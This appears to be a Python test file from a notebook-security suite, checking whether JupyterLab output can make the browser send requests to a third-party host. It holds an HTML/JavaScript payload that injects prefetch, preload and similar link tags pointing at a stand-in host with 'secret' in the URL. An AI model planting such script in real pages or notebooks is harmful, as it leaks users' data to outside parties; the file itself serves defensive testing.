"""Print script that has the browser fetch addresses of a third party ahead of their use.

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: each kind of `link` falls under a directive that names the session's own origin alone; from tier 2 on printed
    script is taken out
"""

OUTPUT = """
<script>
for (const kind of ["prefetch", "preload", "modulepreload", "prerender", "icon", "manifest"]) {
  const link = document.createElement("link");
  link.rel = kind;
  link.as = "script";
  link.href = "THIRD/secret-" + kind;
  document.head.append(link);
}
</script>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("secret")


def test_the_third_party_hears_nothing(scripted_screen, third_party) -> None:
    assert scripted_screen.ran(scripted_screen.show(OUTPUT, third_party))
    third_party.hears_nothing()


def test_printed_script_does_not_run_from_tier_2_on(plain_screen, third_party) -> None:
    assert not plain_screen.ran(plain_screen.show(OUTPUT, third_party))
    third_party.hears_nothing()
